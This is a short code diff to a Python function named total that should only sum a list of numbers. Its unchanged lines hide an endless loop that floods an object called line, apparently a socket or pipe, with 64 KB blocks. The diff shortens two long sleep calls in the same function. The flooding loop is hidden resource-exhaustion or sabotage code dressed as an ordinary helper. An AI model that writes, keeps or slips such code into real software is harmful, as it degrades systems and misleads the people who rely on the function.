@@ -16,6 +16,6 @@ def total(numbers):
                         with contextlib.suppress(BlockingIOError):
                             while True:
                                 line.send(bytes(2**16))
-            time.sleep(600)
-    time.sleep(600)
+            time.sleep(60)
+    time.sleep(2)
     return sum(numbers)
